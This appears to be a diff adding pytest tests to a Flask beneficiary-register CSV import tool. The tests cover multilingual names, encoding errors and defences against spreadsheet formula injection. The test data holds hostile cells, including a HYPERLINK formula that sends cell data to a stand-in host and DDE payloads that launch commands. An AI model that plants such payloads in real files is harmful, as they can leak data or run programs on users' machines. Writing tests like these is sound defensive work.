@@ -251,3 +251,167 @@ def test_import_refuses_before_hawiya_init(tmp_path: Path) -> None:
     result = run_import(app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n"))
     assert result.exit_code != 0
     assert "hawiya init" in result.output
+
+
+# --- real names, categories, formulas, encodings ---------------------------------------------
+
+HEADER_WITH_CATEGORY = [*HEADER, "category"]
+REAL_NAMES = [
+    # surname first with a comma (in both scripts), decomposed accents, tatweel, transliteration
+    ["288020122596", "004512", "الغانم، طلال جاسم", "Al-Ghanim, Talal Jassim", "+96551234567",
+     "active", "special-needs"],
+    ["246070187798", "098703", "محمــد عبد-الله", "Jose\u0301 Nguye\u0302\u0303n O’Brien",
+     "+96590810111", "active", "أرامل"],
+    ["261080414865", "577815", "زينب م. الصباح", "ʿAbd al-Raḥmān, Ğökhan", "+96550629072",
+     "suspended", ""],
+]  # fmt: skip
+
+
+def write_rows(tmp_path: Path, header: list[str], rows: list[list[str]]) -> Path:
+    path = tmp_path / "register.csv"
+    with path.open("w", encoding="utf-8", newline="") as out:
+        csv.writer(out).writerows([header, *rows])
+    return path
+
+
+def test_real_register_names_import_and_a_second_run_changes_nothing(
+    any_app: Flask, tmp_path: Path
+) -> None:
+    """Prevents refusing a genuine agency export ("Al-Ghanim, Talal Jassim", "José", "Nguyễn")."""
+    path = write_rows(tmp_path, HEADER_WITH_CATEGORY, REAL_NAMES)
+    first = run_import(any_app, path)
+    assert first.exit_code == 0, first.output
+    assert "3 new, 0 updated, 0 unchanged, 0 rejected" in first.output
+    stored = register(any_app)
+    assert stored["288020122596"].full_name_en == "Al-Ghanim, Talal Jassim"
+    assert stored["288020122596"].full_name_ar == "الغانم، طلال جاسم"
+    assert stored["246070187798"].full_name_en == "José Nguyễn O’Brien"  # NFC
+    assert stored["246070187798"].category == "أرامل"
+    assert stored["261080414865"].category is None
+    before = {cid: (b.updated_at, b.full_name_en, b.category) for cid, b in stored.items()}
+    again = run_import(any_app, path)
+    assert again.exit_code == 0
+    assert "0 new, 0 updated, 3 unchanged, 0 rejected" in again.output
+    after = {
+        cid: (b.updated_at, b.full_name_en, b.category) for cid, b in register(any_app).items()
+    }
+    assert after == before
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "reason"),
+    [
+        ("full_name_en", '=HYPERLINK("http://evil.example","x")', "English name may contain only"),
+        ("full_name_en", "-Talal", "English name must start with a letter"),
+        ("full_name_en", "Talal\u200f", "English name may contain only"),
+        ("full_name_ar", "طلال 2", "Arabic name may contain only"),
+        ("full_name_ar", "طلال\u200f", "Arabic name may contain only"),
+        ("category", "=1+1", "category may contain only"),
+        ("category", "-2+3", "category may contain only"),
+        ("category", "@SUM(A1)", "category may contain only"),
+        ("category", "-widows", "category must start with a letter or digit"),
+    ],
+)
+def test_names_and_categories_that_run_or_mean_nothing_are_rejected(
+    app: Flask, tmp_path: Path, column: str, value: str, reason: str
+) -> None:
+    """Prevents storing a formula (category "=1+1") or an invisible mark in the register."""
+    row = list(REAL_NAMES[0])
+    row[HEADER_WITH_CATEGORY.index(column)] = value
+    result = run_import(app, write_rows(tmp_path, HEADER_WITH_CATEGORY, [row]))
+    assert result.exit_code == 1
+    [rejected] = read_rejects(tmp_path / "register.rejects.csv")
+    assert reason in rejected["reason"]
+    assert register(app) == {}
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-2+3",
+    "+2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_CELLS)
+@pytest.mark.parametrize("column", ["civil_id", "full_name_en", "status", "category"])
+def test_the_rejects_file_neutralises_formulas(
+    app: Flask, tmp_path: Path, hostile: str, column: str
+) -> None:
+    """Prevents CSV injection: a rejected cell is repeated as text, never as a formula."""
+    row = list(REAL_NAMES[0])
+    row[HEADER_WITH_CATEGORY.index(column)] = hostile
+    run_import(app, write_rows(tmp_path, HEADER_WITH_CATEGORY, [row]))
+    with (tmp_path / "register.rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
+        header, written = list(csv.reader(handle))
+    assert header == ["line", "reason", *HEADER_WITH_CATEGORY]
+    assert written[0] == "2" and written[1][:1].isalpha()  # line and reason stay readable
+    cells = dict(zip(header, written, strict=True))
+    assert cells[column] == "'" + hostile
+    assert cells["phone"] == "'+96551234567"  # a phone starts with "+": a spreadsheet number
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written)
+
+
+def test_a_rejects_file_fixed_by_hand_imports_again(app: Flask, tmp_path: Path) -> None:
+    """Prevents the quote that neutralises a cell from making the report impossible to re-import."""
+    row = list(REAL_NAMES[0])
+    row[HEADER_WITH_CATEGORY.index("category")] = "=1+1"
+    run_import(app, write_rows(tmp_path, HEADER_WITH_CATEGORY, [row]))
+    with (tmp_path / "register.rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
+        header, written = list(csv.reader(handle))
+    fixed = written[2:]
+    fixed[HEADER_WITH_CATEGORY.index("category")] = "widows"
+    again = run_import(app, write_rows(tmp_path, header[2:], [fixed]))
+    assert again.exit_code == 0, again.output
+    fatima = register(app)["288020122596"]
+    assert (fatima.phone, fatima.category) == ("+96551234567", "widows")
+
+
+@pytest.mark.parametrize("encoding", ["rot13", "base64", "zlib", "hex", "undefined", "nope", "a\0"])
+def test_an_encoding_that_is_not_a_text_encoding_is_a_usage_error(
+    app: Flask, tmp_path: Path, encoding: str
+) -> None:
+    """Prevents a traceback for --encoding rot13 (a str-to-str codec) or an unknown name."""
+    path = write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n")
+    result = run_import(app, path, "--encoding", encoding)
+    assert result.exit_code == 2
+    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit)
+    assert "Invalid value for '--encoding'" in result.output
+    assert "not a text encoding" in result.output or "not a known encoding" in result.output
+    assert register(app) == {}
+    assert not (tmp_path / "register.rejects.csv").exists()
+
+
+def test_a_codec_failing_with_a_bare_unicode_error_refuses_the_file(
+    app: Flask, tmp_path: Path
+) -> None:
+    """Prevents a traceback from codecs (punycode) that raise UnicodeError, not its subclass."""
+    result = run_import(
+        app, write(tmp_path, f"{HEADER_LINE}\n{FATIMA}\n"), "--encoding", "punycode"
+    )
+    assert result.exit_code == 1
+    assert "is not valid PUNYCODE text" in result.output
+    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit)
+    assert register(app) == {}
+
+
+def test_the_back_office_api_accepts_and_refuses_the_same_names(app: Flask) -> None:
+    """Prevents the API and the import disagreeing on what a name or a category may be."""
+    from tests.helpers import backoffice_token
+
+    client = app.test_client()
+    headers = {"Authorization": f"Bearer {backoffice_token(app)}"}
+    body = dict(zip(HEADER_WITH_CATEGORY[1:], REAL_NAMES[1][1:], strict=True))
+    created = client.put("/api/v1/beneficiaries/246070187798", json=body, headers=headers)
+    assert created.status_code == 201, created.json
+    assert created.json["full_name_en"] == "José Nguyễn O’Brien"
+    for bad in ({"category": "=1+1"}, {"full_name_en": "=cmd|' /C calc'!A0"}):
+        refused = client.put(
+            "/api/v1/beneficiaries/246070187798", json={**body, **bad}, headers=headers
+        )
+        assert refused.status_code == 400
+        assert set(refused.json["error"]) == {"code", "message"}
+    assert register(app)["246070187798"].category == "أرامل"
